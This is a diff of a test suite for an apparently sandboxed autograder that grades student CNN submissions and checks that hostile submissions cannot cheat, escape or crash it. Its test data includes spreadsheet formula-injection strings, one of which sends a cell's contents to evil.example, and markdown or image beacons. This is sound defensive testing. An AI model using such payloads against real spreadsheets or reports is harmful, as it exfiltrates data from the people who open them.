@@ -1,5 +1,8 @@
-"""scripts/grade.py: points follow the rubric, every submission gets a valid results.json, the
-hostile corpus cannot break the grader or cheat, and a seed-style notebook is graded fairly."""
+"""cnnspec grade: every submission gets a valid results.json, the hostile corpus cannot break the
+grader, cheat, or touch anything outside its worker's folder, student text reaches the instructor
+as text, grading is refused where it would not be safe, and a seed-style notebook is graded
+fairly, from an editable install and from a wheel."""
+import hashlib
 import json
 import os
 import re
@@ -8,57 +11,36 @@ import shutil
 import subprocess
 import sys
 import time
+import venv
 from pathlib import Path
 
 import pandas as pd
 import pytest
 
+from cnnspec.grading import grade as grading
+from cnnspec.grading.bench import build_hostile_corpus
 from cnnspec.grading.examples import seed_style_notebook
 from cnnspec.grading.grade import unique_names
-from cnnspec.grading.score import by_function, load_rubric, results_json, score
+from cnnspec.grading.report import csv_cell, md_literal, write
+from cnnspec.grading.score import load_rubric, results_json, score
+from cnnspec.sandbox import cgroups
 from cnnspec.sandbox import launch as sandbox
 
 PROJECT = Path(__file__).resolve().parents[2]
 HOSTILE = Path(__file__).resolve().parent / "hostile"
 SANDBOXED = sandbox.bwrap_status()[0] and os.environ.get("CNNSPEC_BWRAP") != "off"
+# Where bubblewrap does not work the grader refuses; these runs then say they trust the code.
+SANDBOX = () if SANDBOXED else (grading.TRUST,)
+needs_bwrap = pytest.mark.skipif(not SANDBOXED, reason="no bubblewrap here: "
+                                 f"{sandbox.bwrap_status()[1]}")
+needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="workers of their own user need root")
 
 
-# -- points ------------------------------------------------------------------------------------
+# -- results, names, escaping ----------------------------------------------------------------------
 
 def fake_tests():
-    tests = [{"nodeid": f"t::test_conv2d_backward_{o}_{i}", "function": "conv2d_backward",
-              "output": o, "clauses": ["CONV-3"]} for o in ("dX", "dW", "db") for i in range(2)]
-    tests.append({"nodeid": "t::test_conv2d_backward_shapes", "function": "conv2d_backward",
-                  "output": None, "clauses": ["GEN-2"]})
-    tests.append({"nodeid": "t::test_conv2d_golden", "function": "conv2d", "output": "out",
-                  "clauses": ["GOLD-1"]})
-    return tests
-
-
-def test_partial_credit_follows_the_outputs():
-    rubric = load_rubric()
-    results = {t["nodeid"]: {"outcome": "failed" if t["output"] == "db" else "passed"}
-               for t in fake_tests()}
-    scored = score(fake_tests(), results, rubric)
-    assert not any("golden" in t["nodeid"] for t in scored)      # GOLD clauses are not scored
-    got, of = by_function(scored, rubric)["conv2d_backward"]
-    share = rubric["outputs"]["conv2d_backward"]
-    assert of == pytest.approx(rubric["functions"]["conv2d_backward"])
-    assert got == pytest.approx(of * (1 - share["db"]))          # only db's share is lost
-
-
-def test_a_rubric_file_overrides_the_defaults(tmp_path):
-    path = tmp_path / "rubric.toml"
-    path.write_text('[functions]\nconv2d_backward = 50\n[outputs]\n'
-                    'conv2d_backward = { dX = 1, dW = 0, db = 0, other = 0 }\n')
-    rubric = load_rubric(path)
-    results = {t["nodeid"]: {"outcome": "passed" if t["output"] == "dX" else "failed"}
-               for t in fake_tests()}
-    got, of = by_function(score(fake_tests(), results, rubric), rubric)["conv2d_backward"]
-    assert (got, of) == (pytest.approx(50), pytest.approx(50))
-    path.write_text("[functions]\nconvolution = 5\n")
-    with pytest.raises(ValueError, match="not in the contract"):
-        load_rubric(path)
+    return [{"nodeid": f"t::test_conv2d_backward_{o}", "function": "conv2d_backward", "output": o,
+             "category": "value", "clauses": ["CONV-3"]} for o in ("dX", "dW", "db")]
 
 
 def test_results_json_has_the_gradescope_fields():
@@ -75,19 +57,94 @@ def test_results_json_has_the_gradescope_fields():
 
 def test_submission_names_are_unique_folder_names():
     assert unique_names(["a/CNN from scratch.ipynb", "b/CNN from scratch.ipynb", "pkg/",
-                         "x/my:cnn.py"]) == ["CNN from scratch", "CNN from scratch-2", "pkg",
-                                             "my_cnn"]
+                         "x/my:cnn.py", "-=cmd.py", ".hidden"]) == [
+        "CNN from scratch", "CNN from scratch-2", "pkg", "my_cnn", "_cmd", "hidden"]
+
+
+@pytest.mark.parametrize("cell, shown", [
+    ('=HYPERLINK("http://evil.example")', '\'=HYPERLINK("http://evil.example")'),
+    ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
+    ("\rx", "'\rx"), ("  =1", "'  =1"), ("plain", "plain"), (3.5, 3.5)])
+def test_csv_cells_that_would_run_as_formulas_are_neutralised(cell, shown):
+    assert csv_cell(cell) == shown
+
+
+def test_student_text_in_the_report_is_literal_code():
+    text = "![b](http://evil.example/b.png) <img src=x> `tick` a|b www.evil.example\nline 2"
+    shown = md_literal(text)
+    assert shown == "`` ![b](http://evil.example/b.png) <img src=x> `tick` a\\|b " \
+                    "www.evil.example line 2 ``"
+    assert md_literal("") == ""
+
+
+def scored_row(name, problem):
+    rubric = load_rubric()
+    return dict(name=name, submission=f"subs/{name}.py", problem=problem, notes=[],
+                timed_out=False, seconds=1.0, isolation="", resources={},
+                scored=score(fake_tests(), {}, rubric))
+
+
+def outside_code(text):
+    """`text` without its inline code spans."""
+    return re.sub(r"(`+) .*? \1", "", text)
+
+
+def test_the_report_and_summary_keep_student_text_inert(tmp_path):
+    problem = ('=HYPERLINK("http://evil.example/?x="&A1): ![beacon](http://evil.example/b.png) '
+               '<img src="http://evil.example/i.png"> | cell')
+    write([scored_row("-2+3", problem), scored_row("fine", None)], load_rubric(), tmp_path,
+          seed=1, isolation="isolation: test")
+    raw = (tmp_path / "summary.csv").read_text()
+    assert "\n'-2+3,'subs/-2+3.py" not in raw and "'=HYPERLINK" in raw
+    cells = pd.read_csv(tmp_path / "summary.csv", dtype=str, keep_default_na=False)
+    assert all(not v.lstrip(" ").startswith(tuple("=+-@\t\r")) for v in cells.values.ravel())
+    report = (tmp_path / "report.md").read_text()
+    assert "evil.example" in report and "evil.example" not in outside_code(report)
+
+
+# -- refusing to grade -----------------------------------------------------------------------------
+
+def test_grading_is_refused_without_bubblewrap(tmp_path):
+    (tmp_path / "sub.py").write_text("")
+    env = dict(os.environ, PATH=str(tmp_path))        # no bwrap on the PATH
+    _, result = run_grader(tmp_path / "sub.py", "--out", tmp_path / "grades", env=env, code=2)
+    assert "refusing to grade: bubblewrap (bwrap) is not installed" in result.stderr
+    assert grading.TRUST in result.stderr and not (tmp_path / "grades" / "sub").exists()
+
+
+def test_grading_is_refused_when_the_probe_reaches_the_answers(monkeypatch, tmp_path):
+    monkeypatch.setattr(grading.audit, "leaks", lambda **_: ["read /x/reference/cnn.py"])
+    monkeypatch.setattr(grading, "bwrap_status", lambda: (True, "bubblewrap works"))
+    args = grading.argparse.Namespace(trust=False, memory_mb=1024)
+    with pytest.raises(grading.Refused, match=r"isolation probe .* found:\n  read /x/reference"):
+        grading.preflight(args, hide=[])
+    args.trust = True
+    isolation, warnings = grading.preflight(args, hide=[])
+    assert "NO SANDBOX" in isolation and "read /x/reference/cnn.py" in warnings[0]
+
+
+@pytest.mark.slow
+def test_the_probe_finds_the_answers_only_without_the_sandbox():
+    if SANDBOXED:
+        assert sandbox_leaks(use_bwrap=True) == []
+    found = sandbox_leaks(use_bwrap=False)
+    assert any("reference/cnn.py" in line for line in found), found
+
+
+def sandbox_leaks(**options):
+    from cnnspec.sandbox import audit
+    return audit.leaks(seconds=60, **options)
 
 
 # -- end to end ----------------------------------------------------------------------------------
 
-def run_grader(*args, timeout=900):
+def run_grader(*args, timeout=900, python=sys.executable, cwd=None, env=None, code=0):
     started = time.monotonic()
-    result = subprocess.run([sys.executable, str(PROJECT / "scripts" / "grade.py"), *map(str, args)],
-                            capture_output=True, text=True, timeout=timeout,
-                            stdin=subprocess.DEVNULL)
-    assert result.returncode == 0, result.stdout + result.stderr
-    return time.monotonic() - started
+    result = subprocess.run([python, "-m", "cnnspec", "grade", *map(str, args)],
+                            capture_output=True, text=True, timeout=timeout, cwd=cwd,
+                            stdin=subprocess.DEVNULL, env=env)
+    assert result.returncode == code, result.stdout + result.stderr
+    return time.monotonic() - started, result
 
 
 def load_results(out, name):
@@ -104,7 +161,7 @@ def test_a_seed_style_notebook_gets_full_marks_and_one_wrong_function_costs_its_
     seed_style_notebook(subs / "wrong.ipynb", replace={"return 100.0 * float(": "return float("})
     out = tmp_path / "grades"
     run_grader(subs / "right.ipynb", subs / "wrong.ipynb", "--out", out, "--jobs", "2",
-               "--seed", "11")
+               "--seed", "11", *SANDBOX)
     right, wrong = load_results(out, "right"), load_results(out, "wrong")
     failed = [t["name"] for t in right["tests"] if t["status"] != "passed"]
     assert failed == [] and right["score"] == pytest.approx(right["max_score"])
@@ -121,39 +178,69 @@ def test_a_seed_style_notebook_gets_full_marks_and_one_wrong_function_costs_its_
 
 
 # The hostile corpus is graded on the tests of the functions it attacks, to keep this test fast.
-HOSTILE_TESTS = "relu or conv2d_matches_scipy or softmax_cross_entropy_loss_matches"
-CHEATS = ["import_reference", "read_golden", "patch_the_tests"]   # write files, read the disk
+HOSTILE_TESTS = "relu or conv2d_out_matches or softmax_cross_entropy_loss_matches"
+CHEATS = ["import_reference", "read_golden", "patch_the_tests", "linked_file", "linked_package",
+          "leaky_package", "forge_log"]
+VALUE_OUTPUTS = ("out", "dX", "loss", "dZ")
 
 
+def messages(doc):
+    return doc["output"] + "\n".join(t["output"] for t in doc["tests"])
+
+
+def value_points(doc):
+    """The tests of values the submission passed (not its dtypes, shapes or error handling)."""
+    return [t["name"] for t in doc["tests"] if t["status"] == "passed"
+            and t["extra_data"]["output"] in VALUE_OUTPUTS and t["max_score"] > 0
+            and "dtype" not in t["name"] and "shape" not in t["name"]]
+
+
+def points_of(doc, functions):
+    return sum(t["score"] for t in doc["tests"] if set(t["tags"]) & set(functions))
+
+
+def own_cgroups():
+    """This process's cgroups that a grader made (none may be left after a run)."""
+    folder = cgroups.Group.of_process().folders.get("memory")
+    return sorted(p.name for p in folder.iterdir() if p.name.startswith(cgroups.PREFIX)) \
+        if folder and folder.is_dir() else []
+
+
+@needs_bwrap
 @pytest.mark.slow
 def test_the_hostile_corpus_is_graded_with_clear_messages_and_changes_nothing(tmp_path):
     subs = tmp_path / "submissions"
-    shutil.copytree(HOSTILE, subs, ignore=shutil.ignore_patterns("*.md", "__pycache__"))
-    if not SANDBOXED:      # these write files and read the disk: only run them inside bwrap
-        for name in CHEATS:
-            (subs / f"{name}.py").unlink()
-    canaries = [subs / "cnnspec-canary-subs.txt", tmp_path / "cnnspec-canary-instructor.txt",
+    private = tmp_path / "instructor" / "private.txt"
+    private.parent.mkdir()
+    private.write_text("intact")
+    submissions = build_hostile_corpus(subs, private=private)
+    canaries = [private, subs / "cnnspec-canary-subs.txt",
+                tmp_path / "cnnspec-canary-instructor.txt",
                 PROJECT / f"cnnspec-canary-{secrets.token_hex(4)}.txt"]
-    for canary in canaries:
+    for canary in canaries[1:]:
         canary.write_text("intact")
+    scratch = tmp_path / "tmp"         # every temporary folder of the grader goes here
+    scratch.mkdir()
     out = tmp_path / "grades"
-    submissions = sorted(subs.glob("*.py"))
+    before = own_cgroups()
     try:
-        seconds = run_grader(*submissions, "--out", out, "--jobs", "2", "--seed", "3",
-                             "--call-timeout", "2", "--memory-mb", "1024",
-                             "--submission-timeout", "300", "--tests", HOSTILE_TESTS)
+        seconds, _ = run_grader(*submissions, "--out", out, "--jobs", "2", "--seed", "3",
+                                "--call-timeout", "2", "--memory-mb", "1024",
+                                "--submission-timeout", "300", "--tests", HOSTILE_TESTS,
+                                env=dict(os.environ, TMPDIR=str(scratch)))
         assert all(c.read_text() == "intact" for c in canaries)
     finally:
         canaries[-1].unlink(missing_ok=True)
-    assert seconds < 600
+    assert seconds < 900
     assert not list(tmp_path.rglob("conftest.py")) and not Path("/tmp/conftest.py").exists()
     assert not Path("/tmp/cnnspec-pickle-bomb-went-off").exists()
+    assert list(scratch.iterdir()) == []                        # no folder, file or tmpfs left
+    assert own_cgroups() == before
 
-    results = {p.stem: load_results(out, p.stem) for p in submissions}
+    names = [p.name if p.is_dir() else p.stem for p in submissions]
+    results = {name: load_results(out, name) for name in names}
     summary = pd.read_csv(out / "summary.csv")
     assert sorted(summary["submission"]) == sorted(results)
-    def messages(name):
-        return results[name]["output"] + "\n".join(t["output"] for t in results[name]["tests"])
     expected = {
         "loop_forever": "did not return within 2 s: killed",
         "exit_at_import": "exit code 3",
@@ -163,20 +250,114 @@ def test_the_hostile_corpus_is_graded_with_clear_messages_and_changes_nothing(tm
         "missing_import": "No module named 'tensorflow_from_the_future'",
         "half_api": "conv2d is not defined in",
         "returns_lists": "list",
-        "always_equal": "relu returned out as a submission.Yes",
+        "always_equal": "relu returned out as a submission.object",
+        "import_reference": "No module named 'reference' (nor cnnspec.reference) is reachable",
+        "linked_file": "is a symbolic link to",
+        "linked_package": "linked_package/__init__.py is a symbolic link; links in a submission "
+                          "are not followed",
+        "leaky_package": "leaky_package/notes.txt is a symbolic link",
+        "huge_header": "a header of 125829120 bytes is larger than the 4194304-byte limit",
+        "memfd_hoard": "went over their 1024 MiB memory limit (memfd and tmpfs files included)",
     }
     for name, text in expected.items():
-        assert text in messages(name), name
-    # Out of memory, or still allocating when the 2 s ran out: either way a clear failure.
-    assert re.search(r"MemoryError|did not return within 2 s", messages("allocate_forever"))
-    assert "exit code 7" in messages("exit_in_layer") and "raised SystemExit(2)" in messages("exit_in_layer")
+        assert text in messages(results[name]), name
+    assert re.search(r"MemoryError|did not return within 2 s", messages(results["allocate_forever"]))
+    assert re.search(r"memory limit|did not return within 2 s", messages(results["fork_hoard"]))
+    assert "raised SystemExit(2)" in messages(results["exit_in_layer"])
+    assert "the instructor's private notes" not in json.dumps(results["leaky_package"])
     assert results["half_api"]["score"] > 0 and results["flood_stdout"]["score"] > 0
-    for name in ["returns_nan", "returns_lists", "always_equal", "pickle_bomb"] + \
-            [c for c in CHEATS if c in results]:
-        correct = [t for t in results[name]["tests"]
-                   if t["status"] == "passed" and t["extra_data"]["output"] in ("out", "dX", "loss", "dZ")]
-        assert correct == [], (name, [t["name"] for t in correct])
-    if SANDBOXED:
-        assert results["import_reference"]["score"] == 0
-        assert "No module named 'reference'" in results["import_reference"]["output"]
-        assert results["read_golden"]["score"] == 0
+
+    # A cheat earns no value points; the others earn at most what their honest part computes.
+    for name in CHEATS + ["returns_nan", "returns_lists", "always_equal", "pickle_bomb",
+                          "type_flood", "huge_header", "memfd_hoard", "fork_hoard",
+                          "formula_injection", "grader_killer", "survivor"]:
+        assert value_points(results[name]) == [], name
+    relu_points = points_of(results["disk_filler"], ["relu", "relu_backward"])
+    assert results["disk_filler"]["score"] == pytest.approx(relu_points) and relu_points > 0
+    for honest_relu in ("huge_notebook", "fork_to_the_limit"):
+        doc = results[honest_relu]
+        assert doc["score"] <= relu_points + 1e-6 and \
+            doc["score"] == pytest.approx(points_of(doc, ["relu", "relu_backward"]))
+
+    # The grader's own process stayed small whatever came back; workers stayed in their limits.
+    for name, doc in results.items():
+        used = doc.get("extra_data", {}).get("resources", {})
+        if cgroups.status()[0] and used.get("grader_peak_mb") is not None:
+            assert used["grader_peak_mb"] < 1000, (name, used)
+            assert used["worker_peak_mb"] <= 1024 + 1, (name, used)
+
+    # What students wrote stays text for the instructor.
+    raw = (out / "summary.csv").read_text()
+    assert "'=HYPERLINK" in raw and "\n=" not in raw and ",=" not in raw
+    report = (out / "report.md").read_text()
+    assert "evil.example" in report and "evil.example" not in outside_code(report)
+
+
+def digest(folder):
+    return {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.rglob("*.json"))}
+
+
+@needs_root
+@pytest.mark.slow
+def test_without_the_sandbox_a_submission_still_cannot_forge_outlive_or_kill_the_grader(tmp_path):
+    """--no-sandbox-i-trust-these-submissions: no bubblewrap, but each worker is still its own
+    unprivileged user in its own cgroup, so the log, the results and the grader are out of its
+    reach, and nothing of it outlives its grading."""
+    subs = tmp_path / "submissions"
+    subs.mkdir()
+    for name in ("forge_log", "survivor", "grader_killer"):
+        (subs / f"{name}.py").write_text((HOSTILE / f"{name}.py").read_text())
+    seed_style_notebook(subs / "honest.ipynb")
+    out = tmp_path / "grades"
+    _, result = run_grader(*sorted(subs.iterdir()), "--out", out, "--jobs", "2", "--seed", "5",
+                           "--call-timeout", "2", "--tests", HOSTILE_TESTS, grading.TRUST)
+    assert "NO SANDBOX" in result.stdout and "WARNING" in result.stderr
+    results = {name: load_results(out, name) for name in
+               ("forge_log", "survivor", "grader_killer", "honest")}
+    honest = results["honest"]
+    assert honest["score"] == pytest.approx(honest["max_score"]) and honest["score"] > 0
+    assert value_points(results["forge_log"]) == []
+    assert all(t["status"] != "passed" for t in results["forge_log"]["tests"]
+               if t["extra_data"]["output"] == "out" and "relu_is" in t["name"])
+    for name, doc in results.items():
+        assert "runs as its own user" in doc["output"], name
+    written = digest(out)
+    time.sleep(3)                      # the survivor rewrites every 0.2 s while it lives
+    assert digest(out) == written
+    assert results["survivor"]["score"] < results["survivor"]["max_score"]
+
+
+@pytest.mark.slow
+def test_a_wheel_install_hides_the_reference_too(tmp_path):
+    """Installed from a wheel, the reference, the suite and the golden vectors sit in the
+    site-packages the worker imports NumPy from: the probe and the cheats must still find
+    nothing."""
+    source = tmp_path / "source"      # built from a copy: the checkout is left as it is
+    shutil.copytree(PROJECT, source, ignore=shutil.ignore_patterns(
+        ".git", "build", "dist", "*.egg-info", "__pycache__", ".*cache*"))
+    wheels = tmp_path / "wheels"
+    subprocess.run([sys.executable, "-m", "pip", "wheel", "--no-deps", "-q", "-w", str(wheels),
+                    str(source)], check=True, capture_output=True)
+    env_dir = tmp_path / "venv"
+    venv.EnvBuilder(system_site_packages=True, with_pip=False).create(env_dir)
+    python = str(env_dir / "bin" / "python")
+    subprocess.run([python, "-m", "pip", "install", "--no-deps", "--no-index", "-q",
+                    *map(str, wheels.glob("cnnspec-*.whl"))], check=True, capture_output=True)
+    empty = tmp_path / "empty"
+    empty.mkdir()
+    where = subprocess.run([python, "-c", "import cnnspec.reference.cnn as m; print(m.__file__)"],
+                           check=True, capture_output=True, text=True, cwd=empty).stdout
+    assert where.startswith(str(env_dir)), where                # the wheel, not the checkout
+    subs = tmp_path / "submissions"
+    subs.mkdir()
+    for name in ("import_reference", "read_golden"):
+        (subs / f"{name}.py").write_text((HOSTILE / f"{name}.py").read_text())
+    (subs / "honest.py").write_text((PROJECT / "reference" / "cnn.py").read_text())
+    out = tmp_path / "grades"
+    _, result = run_grader(*sorted(subs.iterdir()), "--out", out, "--jobs", "2", "--seed", "2",
+                           "--tests", HOSTILE_TESTS, *SANDBOX, python=python, cwd=empty)
+    assert "refusing" not in result.stderr
+    for name in ("import_reference", "read_golden"):
+        assert load_results(out, name)["score"] == 0 or not SANDBOXED, name
+    honest = load_results(out, "honest")
+    assert honest["score"] == pytest.approx(honest["max_score"]) and honest["score"] > 0
